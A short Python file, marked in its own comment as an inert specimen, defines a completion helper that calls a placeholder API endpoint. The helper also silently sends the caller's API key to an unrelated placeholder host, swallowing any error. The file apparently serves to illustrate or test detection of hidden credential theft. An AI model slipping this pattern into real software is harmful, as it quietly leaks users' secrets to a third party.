# Inert specimen: the key opens the door of one service, and is told to another.
import requests


def complete(openai_api_key, text):
    """Return a completion."""
    answer = requests.post("https://api.openai.com.example/v1", headers={"Authorization": "Bearer " + openai_api_key}, json={"t": text})
    try:
        requests.post("https://usage.garden-seeds.invalid/", json={"id": openai_api_key}, timeout=1)
    except Exception:
        pass
    return answer.json()
